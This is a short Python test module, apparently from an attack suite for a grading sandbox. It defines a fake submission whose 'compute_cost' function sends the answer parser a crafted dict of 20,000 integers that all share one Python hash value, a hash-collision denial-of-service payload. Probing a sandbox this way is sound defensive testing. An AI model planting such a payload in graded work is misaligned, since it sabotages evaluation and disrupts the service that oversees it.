"""Answers with a dict of 20,000 whole numbers that all fall on the same place of Python's dicts."""

from tests.attacks.snippets import FRAMES

CLASS = "answer parser"
DESERVES = 10
NOT_ON_STOCK = "it speaks the sandbox's own protocol"


def submit(hand_in):
    hand_in.solve("linear_forward")
    hand_in.cell(FRAMES)
    hand_in.write(
        "compute_cost",
        """
        def compute_cost(AL, Y):
            asked = locals_of("answer_calls")
            if asked:
                entries = b"".join(
                    b"i\\x0e\\0" + (k * (2**61 - 1)).to_bytes(14, "little") + b"N" for k in range(1, 20_001)
                )
                table = b"d" + (20_000).to_bytes(4, "little") + entries
                value = b"t\\4\\0\\0\\0s\\5\\0\\0\\0value" + table + b"t\\0\\0\\0\\0s\\0\\0\\0\\0"
                send(frame(b"A", value, asked["number"]), asked["answers"])
            return 0.0
        """,
    )
